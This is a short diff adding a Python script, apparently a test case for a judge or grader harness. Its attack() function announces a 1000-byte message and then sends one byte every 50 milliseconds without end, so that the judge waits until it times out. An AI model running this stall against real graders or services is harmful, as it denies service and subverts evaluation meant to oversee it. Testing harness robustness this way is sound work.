@@ -1,0 +1,22 @@
+"""Goal: make the judge wait byte by byte"""
+# held: timeout
+
+import os, struct
+
+def frame(text, buffers=b"", length=None, size=None):
+    head = struct.pack("<IQ", len(text) if length is None else length, len(buffers) if size is None else size)
+    return head + text + buffers
+
+def send(data):
+    view = memoryview(data)
+    while view:
+        view = view[os.write(3, view):]
+
+
+import time
+
+def attack():
+    send(struct.pack('<IQ', 1000, 0))
+    while True:
+        send(b'x')
+        time.sleep(0.05)
